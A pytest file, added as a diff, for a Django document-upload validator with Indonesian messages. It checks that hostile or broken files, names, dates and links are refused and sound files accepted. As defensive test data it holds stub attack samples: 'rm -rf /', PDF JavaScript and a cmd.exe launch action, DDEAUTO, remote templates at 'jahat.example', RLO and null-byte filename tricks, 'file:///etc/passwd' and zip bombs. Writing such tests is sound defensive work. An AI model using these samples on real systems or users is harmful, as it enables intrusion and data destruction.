@@ -1,0 +1,475 @@
+"""The corpus: what is made to deceive or to hurt is refused, each with its own words; what is sound is taken in."""
+
+import datetime as dt
+import io
+from collections.abc import Callable
+from pathlib import Path
+
+import docx
+import pikepdf
+import pptx
+import pytest
+from django.conf import settings
+from django.core.exceptions import ValidationError
+from pikepdf import Array, Dictionary, Name, String
+from PIL import Image
+from pptx.chart.data import CategoryChartData
+from pptx.enum.chart import XL_CHART_TYPE
+
+from accounts.models import Satker, User
+from evidence.intake import receive_file, receive_link
+from evidence.models import Evidence
+from tests.evidence import berkas, korpus
+from tests.factories import make_member, make_satker, wib
+
+HARI = dt.date(2025, 6, 20)
+KAPAN = wib(2025, 6, 20)
+
+RUSAK = "Berkas {} ini rusak atau terpotong. Buka dan simpan ulang di komputer, lalu unggah lagi."
+TERKUNCI = "Berkas {} ini dikunci kata sandi atau dibatasi. Simpan tanpa kunci, lalu unggah lagi."
+GANDA = (
+    "Berkas {0} ini menyembunyikan berkas lain di dalamnya. Simpan ulang sebagai {0} biasa, lalu unggah lagi."
+)
+MAKRO = (
+    "Berkas ini memuat makro, dan makro tidak diterima. Simpan sebagai {} tanpa makro atau sebagai PDF, lalu "
+    "unggah lagi."
+)
+SKRIP = "Berkas PDF ini memuat skrip, dan skrip tidak diterima. Cetak ulang sebagai PDF, lalu unggah lagi."
+BERJALAN = (
+    "Berkas PDF ini menjalankan sesuatu saat dibuka, dan itu tidak diterima. Cetak ulang sebagai PDF, lalu "
+    "unggah lagi."
+)
+LAMPIRAN = "Berkas {} ini membawa program atau arsip di dalamnya. Keluarkan lampiran itu, lalu unggah lagi."
+LUAR = "Berkas {} ini mengambil isi dari alamat lain saat dibuka. Simpan sebagai PDF, lalu unggah lagi."
+BERAT = "Berkas {} ini terlalu berat untuk dibuka. Perkecil atau cetak ulang sebagai PDF, lalu unggah lagi."
+PIKSEL = "Gambar ini lebih dari {} juta piksel, terlalu besar. Perkecil, lalu unggah lagi."
+ISI_BESAR = (
+    "Isi berkas ini terlalu besar bila dibuka. Perkecil gambar di dalamnya atau simpan sebagai PDF, lalu "
+    "unggah lagi."
+)
+ARSIP = "Arsip tidak diterima. Keluarkan isinya, lalu unggah berkasnya satu per satu."
+PROGRAM = "Berkas ini program, dan program tidak diterima. Unggah dokumennya dalam bentuk PDF."
+WEB = "Halaman web, skrip, dan gambar SVG tidak diterima. Cetak sebagai PDF, lalu unggah lagi."
+VIDEO = "Video jenis ini tidak diterima. Simpan sebagai MP4, lalu unggah lagi."
+GAMBAR = "Gambar jenis ini tidak diterima. Simpan sebagai JPG atau PNG, lalu unggah lagi."
+LAIN = (
+    "Jenis berkas ini tidak diterima. Yang diterima: PDF, DOCX, XLSX, PPTX, ODT, ODS, JPG, PNG, WEBP, HEIC, "
+    "atau MP4."
+)
+DIDAHULUI = "Berkas PDF ini didahului isi lain. Cetak ulang sebagai PDF, lalu unggah lagi."
+OFFICE_LAMA = (
+    "Berkas Office lama (DOC, XLS, PPT) atau yang dikunci kata sandi tidak diterima. Simpan sebagai DOCX, XLSX, "
+    "PPTX, atau PDF tanpa kata sandi, lalu unggah lagi."
+)
+
+Buat = Callable[[], bytes]
+BURUK: dict[str, tuple[Buat, str]] = {
+    # Not a document at all
+    "kosong": (lambda: b"", "Berkas ini kosong (0 bita). Periksa berkasnya, lalu pilih lagi."),
+    "hanya nol": (
+        lambda: bytes(9000),
+        "Isi berkas ini hilang (semuanya nol), biasanya karena gagal disalin. Salin ulang dari sumbernya, lalu "
+        "unggah lagi.",
+    ),
+    "teks": (lambda: b"sekadar teks biasa", LAIN),
+    "program windows": (lambda: korpus.PROGRAM, PROGRAM),
+    "program linux": (lambda: b"\x7fELF" + bytes(300), PROGRAM),
+    "pintasan windows": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(300), PROGRAM),
+    "naskah shell": (lambda: b"#!/bin/sh\nrm -rf /\n", PROGRAM),
+    "wasm": (lambda: b"\0asm\x01\0\0\0", PROGRAM),
+    "php": (lambda: korpus.SKRIP, WEB),
+    "html": (lambda: b"\n <!DOCTYPE html><script>alert(1)</script>", WEB),
+    "html utf-16": (lambda: "<html><script>alert(1)</script>".encode("utf-16"), WEB),
+    "html berkomentar": (lambda: b"<!-- laporan --><script>alert(1)</script>", WEB),
+    "svg": (lambda: b'\xef\xbb\xbf<?xml version="1.0"?><svg onload="alert(1)"/>', WEB),
+    "svg dipadatkan": (lambda: b"\x1f\x8b\x08" + bytes(60), ARSIP),
+    "gif dan js": (korpus.gif_js, GAMBAR),
+    "avif": (lambda: korpus.kotak(b"ftyp", b"avif", bytes(4), b"mif1"), GAMBAR),
+    "rtf": (
+        lambda: b"{\\rtf1 \\object}",
+        "Berkas RTF tidak diterima. Simpan sebagai DOCX atau PDF, lalu unggah lagi.",
+    ),
+    "office lama": (lambda: korpus.ole("WordDocument"), OFFICE_LAMA),
+    "zip": (lambda: berkas.kemas(catatan="isi"), ARSIP),
+    "zip kosong": (lambda: b"PK\x05\x06" + bytes(18), ARSIP),
+    "zip didahului": (lambda: b"\0" * 40 + berkas.ooxml(), ARSIP),
+    "rar": (lambda: b"Rar!\x1a\x07\0" + bytes(60), ARSIP),
+    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(60), ARSIP),
+    # PDF
+    "pdf terpotong": (lambda: berkas.pdf(halaman=3)[:-200], RUSAK.format("PDF")),
+    "pdf tanpa halaman": (lambda: berkas.pdf(halaman=0), RUSAK.format("PDF")),
+    "pdf rusak di tengah": (korpus.pdf_rusak_di_tengah, RUSAK.format("PDF")),
+    "pdf terkunci": (
+        lambda: berkas.pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
+        TERKUNCI.format("PDF"),
+    ),
+    "pdf dibatasi": (
+        lambda: berkas.pdf(encryption=pikepdf.Encryption(owner="a", user="")),
+        TERKUNCI.format("PDF"),
+    ),
+    "pdf didahului": (lambda: b"laporan\n" + berkas.pdf(), DIDAHULUI),
+    "pdf dan zip": (lambda: berkas.pdf() + berkas.kemas(a="isi"), GANDA.format("PDF")),
+    "pdf di komentar zip": (
+        lambda: korpus.docx_berkomentar(berkas.pdf()),
+        GANDA.format("Office"),
+    ),
+    "pdf dan html": (lambda: berkas.pdf() + korpus.HALAMAN, GANDA.format("PDF")),
+    "pdf berskrip": (lambda: korpus.pdf_aksi(S=Name.JavaScript, JS=String("app.alert(1)")), SKRIP),
+    "pdf berskrip di tombol": (lambda: korpus.pdf_tombol(S=Name.JavaScript, JS=String("a()")), SKRIP),
+    "pdf berskrip tersamar": (korpus.pdf_js_tersamar, SKRIP),
+    "pdf berskrip menurut nama": (
+        lambda: korpus.pdf_dengan(
+            lambda pdf: pdf.Root.update({"/Names": Dictionary(JavaScript=Dictionary(Names=Array([])))})
+        ),
+        SKRIP,
+    ),
+    "pdf menjalankan program": (
+        lambda: korpus.pdf_tombol(S=Name.Launch, F=String("cmd.exe")),
+        BERJALAN,
+    ),
+    "pdf membuka laman": (lambda: korpus.pdf_aksi(S=Name.URI, URI=String("https://x.id")), BERJALAN),
+    "pdf berlampiran program": (
+        lambda: korpus.pdf_berlampiran("laporan.exe", b"isi"),
+        LAMPIRAN.format("PDF"),
+    ),
+    "pdf berlampiran program bernama lain": (
+        lambda: korpus.pdf_berlampiran("laporan.txt", korpus.PROGRAM),
+        LAMPIRAN.format("PDF"),
+    ),
+    "pdf xfa": (
+        lambda: korpus.pdf_dengan(
+            lambda pdf: pdf.Root.update({"/AcroForm": Dictionary(XFA=String("<xdp/>"))})
+        ),
+        "Berkas ini formulir XFA yang tidak dapat dibuka di peramban. Cetak sebagai PDF biasa, lalu unggah lagi.",
+    ),
+    "portofolio pdf": (
+        lambda: korpus.pdf_dengan(lambda pdf: pdf.Root.update({"/Collection": Dictionary()})),
+        "Berkas ini portofolio PDF. Keluarkan isinya, lalu unggah berkasnya satu per satu.",
+    ),
+    "bom pdf": (lambda: korpus.pdf_bom(900), BERAT.format("PDF")),
+    "bom gambar dalam pdf": (lambda: korpus.pdf_gambar(60_000, 60_000), PIKSEL.format(320)),
+    # Pictures
+    "jpg terpotong": (lambda: berkas.gambar("JPEG", (400, 300))[:-900], RUSAK.format("JPG")),
+    "png terpotong": (lambda: berkas.gambar("PNG", (400, 300))[:-900], RUSAK.format("PNG")),
+    "webp terpotong": (lambda: berkas.gambar("WEBP", (400, 300))[:-900], RUSAK.format("WEBP")),
+    "heic terpotong": (lambda: berkas.gambar("HEIF", (400, 300))[:-900], RUSAK.format("HEIC")),
+    "jpg dan zip": (lambda: berkas.gambar() + berkas.kemas(a="isi"), GANDA.format("JPG")),
+    "jpg dan php": (lambda: korpus.jpg_berkomentar(korpus.SKRIP), GANDA.format("JPG")),
+    "jpg dan program": (lambda: berkas.gambar() + korpus.PROGRAM, GANDA.format("JPG")),
+    "jpg dan pdf": (lambda: berkas.gambar() + berkas.pdf(), GANDA.format("JPG")),
+    "png dan html": (lambda: berkas.gambar("PNG") + korpus.HALAMAN, GANDA.format("PNG")),
+    "png dan sisa": (lambda: berkas.gambar("PNG") + b"sisa gambar lama", GANDA.format("PNG")),
+    "webp dan rar": (lambda: berkas.gambar("WEBP") + b"Rar!\x1a\x07\0", GANDA.format("WEBP")),
+    "heic dan zip": (lambda: berkas.gambar("HEIF") + berkas.kemas(a="isi"), GANDA.format("HEIC")),
+    "bom png": (korpus.png_bom, PIKSEL.format(80)),
+    "bom jpg": (korpus.jpg_bom, PIKSEL.format(80)),
+    "bom webp": (korpus.webp_bom, PIKSEL.format(80)),
+    "bom heic": (korpus.heic_bom, PIKSEL.format(80)),
+    "bom teks png": (korpus.png_teks_bom, RUSAK.format("PNG")),
+    # MP4
+    "mp4 terpotong": (lambda: korpus.mp4()[:-100], RUSAK.format("MP4")),
+    "mp4 tanpa daftar": (lambda: korpus.mp4_tanpa(b"moov"), RUSAK.format("MP4")),
+    "mp4 tanpa isi": (lambda: korpus.mp4_tanpa(b"mdat"), RUSAK.format("MP4")),
+    "mp4 dan zip": (lambda: korpus.mp4() + berkas.kemas(a="isi"), GANDA.format("MP4")),
+    "mp4 dan php": (lambda: korpus.mp4(isi=korpus.SKRIP), GANDA.format("MP4")),
+    "mp4 dan sisa": (lambda: korpus.mp4() + b"\xff" * 40, RUSAK.format("MP4")),
+    "mp4 suara": (
+        lambda: korpus.mp4(pegang=b"soun"),
+        "Berkas MP4 ini tidak berisi gambar, hanya suara. Unggah videonya atau dokumen PDF.",
+    ),
+    "mov": (lambda: korpus.mp4(merek=b"qt  "), VIDEO),
+    "3gp": (lambda: korpus.mp4(merek=b"3gp4"), VIDEO),
+    "mkv": (lambda: b"\x1aE\xdf\xa3" + bytes(80), VIDEO),
+    "avi": (lambda: b"RIFF\x40\0\0\0AVI LIST" + bytes(80), VIDEO),
+    # Office
+    "docx terpotong": (lambda: berkas.ooxml()[:-40], RUSAK.format("Office")),
+    "docx rusak isinya": (korpus.docx_rusak_isi, RUSAK.format("Office")),
+    "docm": (
+        lambda: berkas.ooxml(tipe="application/vnd.ms-word.document.macroEnabled.main+xml"),
+        MAKRO.format("DOCX, XLSX, atau PPTX"),
+    ),
+    "xlsm bernama xlsx": (
+        lambda: berkas.ooxml(tipe=korpus.TIPE_UTAMA["xl"], **{"xl/vbaProject.bin": "x"}),
+        MAKRO.format("XLSX"),
+    ),
+    "makro excel 4": (
+        lambda: berkas.ooxml(tipe=korpus.TIPE_UTAMA["xl"], **{"xl/macrosheets/sheet1.xml": "<x/>"}),
+        MAKRO.format("XLSX"),
+    ),
+    "dde": (
+        lambda: korpus.docx(**{"word/document.xml": "<w:instrText> DDEAUTO cmd</w:instrText>"}),
+        MAKRO.format("DOCX"),
+    ),
+    "makro di dalam tertanam": (
+        lambda: korpus.docx(**{"word/embeddings/Buku.xlsx": berkas.ooxml(**{"xl/vbaProject.bin": "x"})}),
+        MAKRO.format("DOCX"),
+    ),
+    "odt bermakro": (lambda: berkas.odf(**{"Basic/Standard/Modul.xml": "x"}), MAKRO.format("ODT")),
+    "odt memanggil makro": (
+        lambda: berkas.odf(**{"content.xml": '<a href="vnd.sun.star.script:X.py$y"/>'}),
+        MAKRO.format("ODT"),
+    ),
+    "odt terkunci": (lambda: berkas.odf(manifest="<manifest:encryption-data/>"), TERKUNCI.format("ODT")),
+    "docx terkunci di zip": (korpus.berisi_zip_terkunci, TERKUNCI.format("DOCX")),
+    "docx membawa program": (
+        lambda: korpus.docx(**{"word/media/image1.png": korpus.PROGRAM}),
+        LAMPIRAN.format("DOCX"),
+    ),
+    "docx membawa paket": (
+        lambda: korpus.docx(**{"word/embeddings/oleObject1.bin": korpus.ole("\x01Ole10Native")}),
+        LAMPIRAN.format("DOCX"),
+    ),
+    "docx membawa zip": (
+        lambda: korpus.docx(**{"word/embeddings/oleObject1.bin": berkas.kemas(a="isi")}),
+        LAMPIRAN.format("DOCX"),
+    ),
+    "docx membawa naskah": (
+        lambda: korpus.docx(**{"word/embeddings/jalan.bat": "del *.*"}),
+        LAMPIRAN.format("DOCX"),
+    ),
+    "templat dari internet": (
+        lambda: korpus.docx_merujuk("attachedTemplate", "http://jahat.example/t.dotm"),
+        LUAR.format("DOCX"),
+    ),
+    "templat dari server berkas": (
+        lambda: korpus.docx_merujuk("attachedTemplate", r"\\10.0.0.1\bagi\t.dotm"),
+        LUAR.format("DOCX"),
+    ),
+    "objek dari internet": (
+        lambda: korpus.docx_merujuk("oleObject", "mhtml:http://jahat.example/x.html!x-usc:"),
+        LUAR.format("DOCX"),
+    ),
+    "entitas xml": (
+        lambda: korpus.docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "bbb">]><a>&b;</a>'}),
+        RUSAK.format("Office"),
+    ),
+    "docx didahului program": (lambda: korpus.PROGRAM + berkas.ooxml(), PROGRAM),
+    "docx bercelah": (lambda: korpus.docx_bercelah(korpus.PROGRAM), GANDA.format("DOCX")),
+    "docx bernama ganda": (korpus.docx_ganda_nama, GANDA.format("Office")),
+    "docx bertumpuk": (korpus.docx_bertumpuk, RUSAK.format("Office")),
+    "docx berbohong": (korpus.docx_berbohong, RUSAK.format("Office")),
+    "docx keluar dari tempatnya": (lambda: korpus.docx(**{"../../etc/x.xml": "x"}), RUSAK.format("Office")),
+    "bom zip": (
+        lambda: korpus.docx(**{f"word/{n}.xml": " " * 4_000_000 for n in range(3)}),
+        ISI_BESAR,
+    ),
+}
+
+
+@pytest.fixture
+def satker(db: None) -> Satker:
+    return make_satker("1503")
+
+
+@pytest.fixture
+def anggota(satker: Satker) -> User:
+    return make_member(satker)
+
+
+def terima(
+    anggota: User, satker: Satker, isi: bytes, nama: str = "Laporan WBS.pdf", **isian: object
+) -> Evidence:
+    upload = berkas.unggahan(isi)
+    upload._name = nama  # past Django's own cleaning, as an import would come
+    lengkap = {"judul": "Laporan WBS", "tanggal_dokumen": HARI, "at": KAPAN, **isian}
+    return receive_file(satker=satker, upload=upload, by=anggota, **lengkap)
+
+
+def tersimpan() -> list[Path]:
+    return [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]
+
+
+def pesan(galat: pytest.ExceptionInfo[ValidationError]) -> dict[str, list[str]]:
+    return galat.value.message_dict
+
+
+@pytest.mark.parametrize(("buat", "kata"), BURUK.values(), ids=BURUK.keys())
+def test_a_bad_file_is_refused_in_its_own_words(
+    satker: Satker, anggota: User, settings: object, buat: Buat, kata: str
+) -> None:
+    settings.BUKTI_MAKS_ISI_ZIP_MB, settings.BUKTI_KOTAK_MB = 8, 700
+    with pytest.raises(ValidationError) as galat:
+        terima(anggota, satker, buat())
+    assert pesan(galat) == {"berkas": [kata]}
+    assert (tersimpan(), Evidence.objects.exists()) == ([], False)
+
+
+TERSEMBUNYI = (
+    "Nama berkas memuat tanda yang tidak terlihat. Ganti dengan huruf dan angka biasa, lalu unggah lagi."
+)
+NAMA_BURUK = {
+    "kosong": ("  ", "Berkas ini tidak bernama. Beri nama, lalu unggah lagi."),
+    "hanya titik": ("..", "Berkas ini tidak bernama. Beri nama, lalu unggah lagi."),
+    "berbalik arah": ("Laporan\u202efdp.exe", TERSEMBUNYI),
+    "tanda kendali": ("Laporan\x07.pdf", TERSEMBUNYI),
+    "baris baru": ("Laporan\r\nX-Kepala: 1.pdf", TERSEMBUNYI),
+    "nol": ("Laporan.pdf\0.exe", TERSEMBUNYI),
+    "spasi tanpa lebar": ("Lap\u200boran.pdf", TERSEMBUNYI),
+    "pisah arah": ("\u2066Laporan\u2069.pdf", TERSEMBUNYI),
+    "setengah huruf": ("Laporan\ud800.pdf", TERSEMBUNYI),
+    "huruf buatan sendiri": ("Laporan\ue000.pdf", TERSEMBUNYI),
+    "terlalu panjang": (
+        "x" * 197 + ".pdf",
+        "Nama berkas terlalu panjang: 201 huruf. Pendekkan sampai 200 huruf, lalu unggah lagi.",
+    ),
+}
+
+
+@pytest.mark.parametrize(("nama", "kata"), NAMA_BURUK.values(), ids=NAMA_BURUK.keys())
+def test_a_bad_name_is_refused_in_its_own_words(satker: Satker, anggota: User, nama: str, kata: str) -> None:
+    with pytest.raises(ValidationError) as galat:
+        terima(anggota, satker, berkas.pdf(), nama)
+    assert pesan(galat) == {"berkas": [kata]}
+    assert (tersimpan(), Evidence.objects.exists()) == ([], False)
+
+
+TANGGAL_BURUK = {
+    "besok": (
+        dt.date(2025, 6, 21),
+        "Tanggal dokumen 21 Juni 2025 belum tiba; hari ini 20 Juni 2025. Periksa tanggal dan tahunnya.",
+    ),
+    "tahun salah ketik ke depan": (
+        dt.date(2205, 6, 20),
+        "Tanggal dokumen 20 Juni 2205 belum tiba; hari ini 20 Juni 2025. Periksa tanggal dan tahunnya.",
+    ),
+    "abad lalu": (
+        dt.date(1999, 12, 31),
+        "Tahun dokumen 1999 mungkin salah ketik. Isi tahun 2000 atau sesudahnya.",
+    ),
+    "tahun dua angka": (
+        dt.date(25, 6, 20),
+        "Tahun dokumen 25 mungkin salah ketik. Isi tahun 2000 atau sesudahnya.",
+    ),
+}
+
+
+@pytest.mark.parametrize(("tanggal", "kata"), TANGGAL_BURUK.values(), ids=TANGGAL_BURUK.keys())
+def test_a_bad_date_is_refused_in_its_own_words(
+    satker: Satker, anggota: User, tanggal: dt.date, kata: str
+) -> None:
+    with pytest.raises(ValidationError) as galat:
+        terima(anggota, satker, berkas.pdf(), tanggal_dokumen=tanggal)
+    assert pesan(galat) == {"tanggal_dokumen": [kata]}
+    assert tersimpan() == []
+
+
+TAUTAN_BURUK = {
+    "skrip": (
+        "javascript:alert(1)",
+        "Tautan harus dimulai dengan https:// atau http://. Salin lagi dari bilah alamat peramban.",
+    ),
+    "berkas setempat": (
+        "file:///etc/passwd",
+        "Tautan harus dimulai dengan https:// atau http://. Salin lagi dari bilah alamat peramban.",
+    ),
+    "data": (
+        "data:text/html,<script>1</script>",
+        "Tautan harus dimulai dengan https:// atau http://. Salin lagi dari bilah alamat peramban.",
+    ),
+    "bersandi": (
+        "https://orang:sandi@kpu.go.id/",
+        "Tautan memuat nama pengguna atau kata sandi. Hapus bagian sebelum tanda @.",
+    ),
+    "berbalik arah": (
+        "https://kpu.go.id/\u202ea",
+        "Tautan tidak boleh memuat spasi. Salin lagi dari bilah alamat peramban.",
+    ),
+    "tanpa tujuan": ("https://", "Tautan ini tidak lengkap. Salin lagi dari bilah alamat peramban."),
+}
+
+
+@pytest.mark.parametrize(("tautan", "kata"), TAUTAN_BURUK.values(), ids=TAUTAN_BURUK.keys())
+def test_a_bad_link_is_refused_in_its_own_words(
+    satker: Satker, anggota: User, tautan: str, kata: str
+) -> None:
+    with pytest.raises(ValidationError) as galat:
+        receive_link(satker=satker, tautan=tautan, judul="x", tanggal_dokumen=HARI, by=anggota, at=KAPAN)
+    assert pesan(galat) == {"tautan": [kata]}
+
+
+# --- What is sound, a little odd included ---
+
+
+def simpan(dokumen: object) -> bytes:
+    keluar = io.BytesIO()
+    dokumen.save(keluar)
+    return keluar.getvalue()
+
+
+def docx_bergambar() -> bytes:
+    dokumen = docx.Document()
+    dokumen.add_heading("Laporan WBS")
+    dokumen.add_picture(io.BytesIO(berkas.gambar()))
+    return simpan(dokumen)
+
+
+def pptx_bergrafik() -> bytes:
+    """A chart brings its workbook along, inside the file."""
+    paparan, angka = pptx.Presentation(), CategoryChartData()
+    angka.categories = ["TW I", "TW II"]
+    angka.add_series("Capaian", (50, 75))
+    salindia = paparan.slides.add_slide(paparan.slide_layouts[5])
+    salindia.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, 0, 0, 3_000_000, 2_000_000, angka)
+    return simpan(paparan)
+
+
+def jpg_berputar() -> bytes:
+    keluar, exif = io.BytesIO(), Image.Exif()
+    exif[0x0112] = 6
+    Image.new("RGB", (40, 30)).save(keluar, "JPEG", exif=exif)
+    return keluar.getvalue()
+
+
+SEHAT: dict[str, tuple[Buat, str]] = {
+    "pdf": (korpus.pdf_nyata, "application/pdf"),
+    "pdf ditambah": (lambda: korpus.pdf_nyata() + b"\r\n\0\0", "application/pdf"),
+    "pdf berhalaman awal": (
+        lambda: korpus.pdf_dengan(
+            lambda pdf: pdf.Root.update({"/OpenAction": Array([pdf.pages[0].obj, Name.Fit])})
+        ),
+        "application/pdf",
+    ),
+    "pdf bertautan": (
+        lambda: korpus.pdf_tombol(S=Name.URI, URI=String("https://kpu.go.id/")),
+        "application/pdf",
+    ),
+    "pdf berlampiran data": (lambda: korpus.pdf_berlampiran("data.xml", b"<a/>"), "application/pdf"),
+    "pdf bercerita tentang skrip": (
+        lambda: berkas.pdf(tanda="Cara mematikan /JavaScript dan /JS di PDF"),
+        "application/pdf",
+    ),
+    "jpg": (lambda: berkas.gambar("JPEG", (400, 300)), "image/jpeg"),
+    "jpg satu piksel": (lambda: berkas.gambar("JPEG", (1, 1)), "image/jpeg"),
+    "jpg berputar": (jpg_berputar, "image/jpeg"),
+    "jpg bergambar kedua": (lambda: berkas.gambar() + berkas.gambar(), "image/jpeg"),
+    "jpg berfilm": (lambda: berkas.gambar() + korpus.mp4(merek=b"mp42"), "image/jpeg"),
+    "png": (lambda: berkas.gambar("PNG"), "image/png"),
+    "webp": (lambda: berkas.gambar("WEBP"), "image/webp"),
+    "heic": (lambda: berkas.gambar("HEIF"), "image/heic"),
+    "docx": (docx_bergambar, f"{berkas.TIPE_OOXML}wordprocessingml.document"),
+    "docx bertautan": (
+        lambda: korpus.docx_merujuk("hyperlink", "https://kpu.go.id/"),
+        f"{berkas.TIPE_OOXML}wordprocessingml.document",
+    ),
+    "docx bertemplat setempat": (
+        lambda: korpus.docx_merujuk("attachedTemplate", "file:///C:\\Users\\a\\Templat.dotx"),
+        f"{berkas.TIPE_OOXML}wordprocessingml.document",
+    ),
+    "docx berumus lama": (
+        lambda: korpus.docx(**{"word/embeddings/oleObject1.bin": korpus.ole("Equation Native")}),
+        f"{berkas.TIPE_OOXML}wordprocessingml.document",
+    ),
+    "xlsx": (korpus.xlsx_nyata, f"{berkas.TIPE_OOXML}spreadsheetml.sheet"),
+    "pptx": (pptx_bergrafik, f"{berkas.TIPE_OOXML}presentationml.presentation"),
+    "odt": (lambda: korpus.odf_nyata("text", "Berita acara"), "application/vnd.oasis.opendocument.text"),
+    "ods": (lambda: korpus.odf_nyata("spreadsheet", "1"), "application/vnd.oasis.opendocument.spreadsheet"),
+    "mp4": (korpus.mp4, "video/mp4"),
+    "mp4 bertanda lain": (lambda: korpus.mp4(merek=b"mp42") + korpus.kotak(b"free", bytes(9)), "video/mp4"),
+}
+
+
+@pytest.mark.parametrize(("buat", "tipe"), SEHAT.values(), ids=SEHAT.keys())
+def test_a_sound_file_is_taken_in(satker: Satker, anggota: User, buat: Buat, tipe: str) -> None:
+    isi = buat()
+    bukti = terima(anggota, satker, isi)
+    assert (bukti.tipe, bukti.ukuran) == (tipe, len(isi))
